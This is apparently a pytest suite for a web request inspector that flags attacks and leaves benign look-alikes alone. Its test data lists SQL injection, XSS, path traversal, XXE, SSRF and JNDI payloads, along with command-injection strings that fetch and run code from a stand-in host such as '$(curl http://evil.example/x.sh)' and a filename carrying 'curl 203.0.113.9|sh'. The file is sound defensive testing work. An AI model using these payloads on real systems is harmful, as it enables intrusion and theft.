"""The Inspector: attacks caught where they ride, benign look-alikes left alone, bad input
never raising, tuning per route."""

from __future__ import annotations

import json

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from bulletproof.detect import Exclusion, Inspector, RequestInfo
from bulletproof.detect._normalize import evidence, normalize, percent_decode
from bulletproof.detect._records import record_request
from bulletproof.detect._signatures import RULES
from bulletproof.errors import ConfigError

INSPECTOR = Inspector()
FORM = (("content-type", "application/x-www-form-urlencoded"),)
JSON = (("content-type", "application/json"),)


def _verdict(request: RequestInfo) -> tuple[str, set[str], set[str]]:
    result = INSPECTOR.inspect(request)
    return (
        result.verdict,
        {f.type for f in result.findings if f.score},
        {f.location for f in result.findings},
    )


ATTACKS = [
    ("sqli", "1' OR '1'='1"),
    ("sqli", "x UNION ALL SELECT username, password FROM users--"),
    ("sqli", "1 AND SLEEP(5)"),
    ("sqli", "admin'--"),
    ("sqli", "1;DROP TABLE users"),
    ("sqli", "1/**/UnIoN/**/SeLeCt/**/1,2"),
    ("xss", "<script>alert(document.cookie)</script>"),
    ("xss", '"><img src=x onerror=alert(1)>'),
    ("xss", "<svg/onload=alert(1)>"),
    ("xss", "javascript:alert(1)"),
    ("xss", "&lt;script&gt;alert(1)&lt;/script&gt;"),
    ("xss", "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e"),
    ("path_traversal", "../../../../etc/passwd"),
    ("path_traversal", "..\\..\\windows\\win.ini"),
    ("path_traversal", "php://filter/convert.base64-encode/resource=index.php"),
    ("cmdi", "; cat /etc/passwd"),
    ("cmdi", "| whoami"),
    ("cmdi", "$(curl http://evil.example/x.sh)"),
    ("cmdi", "() { :;}; /bin/bash -c id"),
    ("ssrf", "http://169.254.169.254/latest/meta-data/"),
    ("nosql", '{"$ne": null}'),
    ("ldap", "*)(uid=*))(|(uid=*"),
    ("xxe", '<!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'),
    ("ssti", "{{7*7}}"),
]


@pytest.mark.parametrize(("kind", "payload"), ATTACKS)
def test_an_attack_is_caught_in_every_place_it_can_ride(kind: str, payload: str) -> None:
    from urllib.parse import quote

    places = {
        "query:q": RequestInfo("GET", "/search", "q=" + quote(payload)),
        "form:comment": RequestInfo(
            "POST", "/c", headers=FORM, body=("comment=" + quote(payload)).encode()
        ),
        "json:user.name": RequestInfo(
            "PUT", "/u", headers=JSON, body=json.dumps({"user": {"name": payload}}).encode()
        ),
        "cookie:pref": RequestInfo(
            "GET", "/", headers=(("cookie", "sid=1; pref=" + quote(payload)),)
        ),
        "header:x-note": RequestInfo("GET", "/", headers=(("x-note", payload),)),
    }
    for location, request in places.items():
        verdict, types, locations = _verdict(request)
        assert verdict == "malicious", (location, payload)
        assert kind in types, (location, payload, types)
        assert location in locations, (location, locations)


@pytest.mark.parametrize(
    "path",
    [
        "/.env",
        "/.git/config",
        "/wp-login.php",
        "/phpmyadmin/",
        "/cgi-bin/test.cgi",
        "/backup.sql",
        "/server-status",
        "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
        "/..%2f..%2fetc%2fpasswd",
        "/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd",
    ],
)
def test_scanner_probes_and_path_traversal_in_the_path(path: str) -> None:
    verdict, types, _ = _verdict(RequestInfo("GET", path))
    assert verdict == "malicious"
    assert types & {"scanner_probe", "path_traversal", "protocol"}


@pytest.mark.parametrize(
    "ua",
    [
        "sqlmap/1.8#stable (https://sqlmap.org)",
        "Mozilla/5.00 (Nikto/2.5.0)",
        "Nuclei - Open-source project (github.com/projectdiscovery/nuclei)",
        "gobuster/3.6",
    ],
)
def test_scanner_user_agents(ua: str) -> None:
    verdict, types, locations = _verdict(RequestInfo("GET", "/", headers=(("user-agent", ua),)))
    assert (verdict, types, locations) == ("malicious", {"scanner_ua"}, {"header:user-agent"})


BENIGN = [
    "O'Brien",
    "Rock 'n' Roll",
    "We'll be there at 5 o'clock",
    "select the union option",
    "Delete from cart did not work",
    "between 10 and 20 dollars",
    "Tom & Jerry",
    "$HOME",
    "C:\\Users\\Jane\\Documents",
    "50% off | today only",
    "<p>Great <b>book</b></p>",
    '<a href="https://example.org/review">my review</a>',
    '<img src="https://cdn.example/x.png">',
    "東京都 渋谷区",
    "Привет, мир",
    "1/2 cup sugar",
    "email me at jane@example.com; thanks!",
    "exec summary attached",
    "drop me a line",
    "use <code>a &lt; b</code> to compare",
    "data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk",
]


@pytest.mark.parametrize("value", BENIGN)
def test_benign_look_alikes_are_normal_in_a_query_and_in_json(value: str) -> None:
    from urllib.parse import quote

    assert _verdict(RequestInfo("GET", "/s", "q=" + quote(value)))[0] == "normal", value
    body = json.dumps({"text": value}).encode()
    assert _verdict(RequestInfo("PUT", "/s", headers=JSON, body=body))[0] == "normal", value


def test_a_jwt_bearer_and_a_rest_put_are_normal() -> None:
    token = (  # a JWT's shape, not a secret
        "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0."  # noqa: S105
        "dozjgNryP4J3jVmNHl0w5N_XgL0n3I9PlFUP0THsR8U"
    )
    request = RequestInfo(
        "PUT",
        "/api/items/1",
        headers=(("authorization", "Bearer " + token), *JSON),
        body=b'{"qty": 2}',
    )
    assert _verdict(request)[0] == "normal"


def test_graphql_literals_are_judged_one_by_one_and_the_document_is_not() -> None:
    benign = {"query": 'query { user(name: "O\'Brien") { id posts(first: 2) { title } } }'}
    assert (
        _verdict(RequestInfo("POST", "/graphql", headers=JSON, body=json.dumps(benign).encode()))[0]
        == "normal"
    )
    attack = {"query": 'query { user(name: "x\' OR 1=1--") { id } }'}
    verdict, types, locations = _verdict(
        RequestInfo("POST", "/graphql", headers=JSON, body=json.dumps(attack).encode())
    )
    assert verdict == "malicious"
    assert "sqli" in types
    assert "json:query[0]" in locations


def test_multipart_fields_and_filenames_are_judged() -> None:
    body = (
        b'--b\r\nContent-Disposition: form-data; name="title"\r\n\r\n<script>x</script>\r\n'
        b'--b\r\nContent-Disposition: form-data; name="f"; filename="../../etc/passwd"\r\n'
        b"Content-Type: text/plain\r\n\r\nhello\r\n--b--\r\n"
    )
    request = RequestInfo(
        "POST", "/up", headers=(("content-type", "multipart/form-data; boundary=b"),), body=body
    )
    verdict, types, locations = _verdict(request)
    assert verdict == "malicious"
    assert {"xss", "path_traversal"} <= types
    assert {"multipart:title", "multipart:f:filename"} <= locations


@pytest.mark.parametrize(
    ("request_", "rule"),
    [
        (
            RequestInfo(
                "POST", "/", headers=(("content-length", "5"), ("transfer-encoding", "chunked"))
            ),
            "bp-921100",
        ),
        (
            RequestInfo("POST", "/", headers=(("transfer-encoding", "chunked, identity"),)),
            "bp-921110",
        ),
        (
            RequestInfo("POST", "/", headers=(("content-length", "5"), ("content-length", "6"))),
            "bp-921120",
        ),
        (RequestInfo("TRACE", "/"), "bp-920200"),
        (RequestInfo("GET", "/", headers=(("x-http-method-override", "TRACE"),)), "bp-920210"),
    ],
)
def test_request_smuggling_and_method_tampering_are_malicious(
    request_: RequestInfo, rule: str
) -> None:
    result = INSPECTOR.inspect(request_)
    assert result.verdict == "malicious"
    assert rule in {f.rule for f in result.findings}


@pytest.mark.parametrize(
    "request_",
    [
        RequestInfo("POST", "/", headers=JSON, body=b'{"a": '),
        RequestInfo("POST", "/", headers=JSON, body=b"[" * 5000 + b"]" * 5000),
        RequestInfo("POST", "/", headers=(("content-type", "multipart/form-data"),), body=b"x"),
        RequestInfo("GET", "/", "q=%zz"),
        RequestInfo("BREW", "/"),
        RequestInfo("GET", "/", headers=(("x-big", "a" * 20000),)),
    ],
)
def test_malformed_requests_are_invalid(request_: RequestInfo) -> None:
    result = INSPECTOR.inspect(request_)
    assert result.verdict == "invalid", result
    assert all(f.type == "protocol" for f in result.findings)


def test_evidence_is_bounded_and_safe_to_log() -> None:
    payload = "<script>" + "\r\n" * 100 + "alert(1)" + "x" * 500
    result = INSPECTOR.inspect(RequestInfo("GET", "/", headers=(("x-a", payload),)))
    for finding in result.findings:
        assert "\r" not in finding.evidence
        assert "\n" not in finding.evidence
        assert len(finding.evidence) <= 83
    assert evidence("a\x1b[31mb") == "a\\x1b[31mb"


def test_exclusions_turn_a_rule_family_or_a_field_off_on_one_route() -> None:
    request = RequestInfo(
        "POST", "/cms/page/1", headers=FORM, body=b"html=%3Cscript%3Ex%3C%2Fscript%3E"
    )
    elsewhere = RequestInfo("POST", "/comments", headers=FORM, body=request.body)
    by_rule = Inspector(exclusions=[Exclusion("/cms/*", rules=("bp-941",))])
    assert by_rule.inspect(request).verdict == "normal"
    assert by_rule.inspect(elsewhere).verdict == "malicious"
    by_field = Inspector(exclusions=[Exclusion("/cms/*", fields=("form:html",))])
    assert by_field.inspect(request).verdict == "normal"
    whole = Inspector(exclusions=[Exclusion("/cms/*")])
    assert whole.inspect(request).findings == ()
    assert Inspector(disabled_rules=["bp-941"]).inspect(elsewhere).verdict == "normal"


def test_bad_settings_are_config_errors_that_name_the_key() -> None:
    with pytest.raises(ConfigError, match=r"shield\.threshold"):
        Inspector(threshold=0)
    with pytest.raises(ConfigError, match="exclusion path"):
        Exclusion("cms/*")
    with pytest.raises(ConfigError, match=r"shield\.engine"):
        Inspector(engine="pcre")


def test_a_bug_inside_the_inspector_is_an_invalid_verdict_not_an_exception(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    inspector = Inspector()

    def broken(*args: object) -> None:
        raise RuntimeError("boom")

    monkeypatch.setattr(inspector, "_line", broken)
    result = inspector.inspect(RequestInfo("GET", "/"))
    assert result.verdict == "invalid"
    assert result.findings[0].rule == "bp-920000"


def test_rule_ids_are_unique_and_every_pattern_compiles_in_re2() -> None:
    import re2

    ids = [r.id for r in RULES]
    assert len(ids) == len(set(ids))
    for rule in RULES:
        re2.compile(rule.pattern)
        assert rule.where, rule.id
        assert set(rule.where) <= set("vpunx"), rule.id
        assert 1 <= rule.score <= 5, rule.id


def test_normalize_decodes_what_attackers_hide() -> None:
    assert normalize("%253Cscript%253E")[0] == "<script>"
    assert normalize("SeLeCt/**/1")[0] == "select 1"
    assert normalize("a/*!50000union*/b")[0] == "a union b"
    assert normalize("admin'/*")[0] == "admin'/*"
    assert normalize("\\x3cimg\\u003e")[0] == "<img>"
    assert normalize("&#x3C;&#60&lt;")[0] == "<<<"
    assert normalize("%u003c", plus=True)[0] == "<"
    assert normalize("a+b", plus=True)[0] == "a b"
    assert normalize("a+b")[0] == "a+b"
    assert percent_decode("%c0%ae%c0%af")[0] == "./"
    assert percent_decode("100%")[0] == "100%"
    assert percent_decode("%41%zz")[0] == "A%zz"


def test_records_are_read_and_bad_records_named() -> None:
    request = record_request(
        {
            "method": "POST",
            "path": "/x",
            "query": "a=1",
            "headers": {"Content-Type": "application/json"},
            "body": "{}",
        }
    )
    assert request.content_type == "application/json"
    assert request.body == b"{}"
    with pytest.raises(ConfigError, match="'headers'"):
        record_request({"headers": 3})
    with pytest.raises(ConfigError, match="'path'"):
        record_request({"path": 3})


text = st.text(st.characters(codec="utf-8"), max_size=300) | st.sampled_from(
    ["%", "%c0", "%u", "&#", "\\u{", "/*", "\x00", "'", "{{", "\ud800", "\\x", "=", "&", ";"]
)


@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(
    method=text,
    path=text,
    query=text,
    headers=st.lists(st.tuples(st.text(max_size=20), text), max_size=8),
    body=st.binary(max_size=2000) | text.map(lambda s: s.encode("utf-8", "surrogatepass")),
    content_type=st.sampled_from(
        [
            "",
            "application/json",
            "application/x-www-form-urlencoded",
            "multipart/form-data; boundary=x",
            "application/xml",
            "text/plain",
            "application/graphql",
            "x/y",
        ]
    ),
)
def test_no_bytes_in_any_field_make_the_inspector_raise(
    method: str,
    path: str,
    query: str,
    headers: list[tuple[str, str]],
    body: bytes,
    content_type: str,
) -> None:
    request = RequestInfo(
        method,
        path,
        query,
        headers=(*headers, ("content-type", content_type), ("cookie", query)),
        body=body,
    )
    result = INSPECTOR.inspect(request)
    assert result.verdict in ("normal", "invalid", "malicious")
    assert all(f.rule != "bp-920000" for f in result.findings), result.findings


def test_the_documented_examples_run() -> None:
    import re
    from pathlib import Path

    root = Path(__file__).resolve().parents[2]
    blocks = re.findall(r"```python\n(.*?)```", (root / "docs" / "detect.md").read_text(), re.S)
    readme = (root / "README.md").read_text()
    section = readme[readme.index("## Request inspection") :]
    blocks.append(re.findall(r"```python\n(.*?)```", section, re.S)[0])
    assert len(blocks) >= 3
    namespace: dict[str, object] = {}  # the blocks of a page build on each other
    for block in blocks:
        exec(compile(block, "docs", "exec"), namespace)  # noqa: S102 - our own documentation


@pytest.mark.parametrize(
    ("request_", "kind", "location"),
    [
        (RequestInfo("GET", "/users/1%27%3B%20DROP%20TABLE%20users--"), "sqli", "path"),
        (RequestInfo("GET", "/p/%3C%25%3D%207%2A7%20%25%3E"), "ssti", "path"),
        (RequestInfo("GET", "/regen", "filename=example.com%0Aid"), "cmdi", "query:filename"),
        (
            RequestInfo(
                "POST",
                "/login",
                headers=JSON,
                body=b'{"email": "%27%20OR%201%3D1--", "password": "x"}',
            ),
            "sqli",
            "json:email",
        ),
        (RequestInfo("GET", "/", "q=1+or+0x50%3D0x50"), "sqli", "query:q"),
        (RequestInfo("GET", "/", "cb=-alert(1)-"), "xss", "query:cb"),
        (
            RequestInfo("GET", "/", headers=(("referer", "${${lower:j}ndi:ldap://x.example/o}"),)),
            "ssti",
            "header:referer",
        ),
        (
            RequestInfo(
                "POST",
                "/up",
                headers=(("content-type", "multipart/form-data; boundary=b"),),
                body=b'--b\r\nContent-Disposition: form-data; name="f"; '
                b'filename="a.jpg; curl 203.0.113.9|sh"\r\n\r\nx\r\n--b--\r\n',
            ),
            "cmdi",
            "multipart:f:filename",
        ),
        (
            RequestInfo(
                "POST",
                "/up",
                headers=(("content-type", "multipart/form-data; boundary=b"),),
                body=b'--b\r\nContent-Disposition: form-data; name="f"; filename="x.svg"\r\n'
                b"Content-Type: image/svg+xml\r\n\r\n<svg onload=alert(1)></svg>\r\n--b--\r\n",
            ),
            "xss",
            "multipart:f:content",
        ),
    ],
)
def test_attacks_in_less_common_places(request_: RequestInfo, kind: str, location: str) -> None:
    result = INSPECTOR.inspect(request_)
    assert result.verdict == "malicious", result
    assert (kind, location) in {(f.type, f.location) for f in result.findings}


@pytest.mark.parametrize(
    "request_",
    [
        RequestInfo(
            "POST",
            "/posts",
            headers=JSON,
            body=json.dumps(
                {"body": "run it with ```bash\npython manage.py migrate\n``` then restart"}
            ).encode(),
        ),
        RequestInfo(
            "POST",
            "/import",
            headers=(("content-type", "multipart/form-data; boundary=b"),),
            body=b'--b\r\nContent-Disposition: form-data; name="f"; filename="page.html"\r\n'
            b"Content-Type: text/html\r\n\r\n<!doctype html><html><head><title>t</title>"
            b"</head><body><p>hi</p></body></html>\r\n--b--\r\n",
        ),
        RequestInfo(
            "PUT",
            "/config",
            headers=JSON,
            body=b'{"log_path": "/var/log/nginx/access.log", "note": "50% off"}',
        ),
        RequestInfo("GET", "/static/vendor/jquery.min.js"),
        RequestInfo(
            "POST",
            "/cms",
            headers=JSON,
            body=json.dumps(
                {
                    "html": (
                        '<p>Watch:</p><iframe src="https://www.youtube.com/embed/x" '
                        "allowfullscreen></iframe>"
                    )
                }
            ).encode(),
        ),
        RequestInfo("GET", "/docs", "q=how+to+truncate+table+in+postgres"),
        RequestInfo(
            "POST",
            "/t",
            headers=JSON,
            body=b'{"tpl": "Hi {{ user.first_name }}, {% if x %}ok{% endif %}"}',
        ),
    ],
)
def test_content_that_looks_like_code_is_normal(request_: RequestInfo) -> None:
    result = INSPECTOR.inspect(request_)
    assert result.verdict == "normal", result
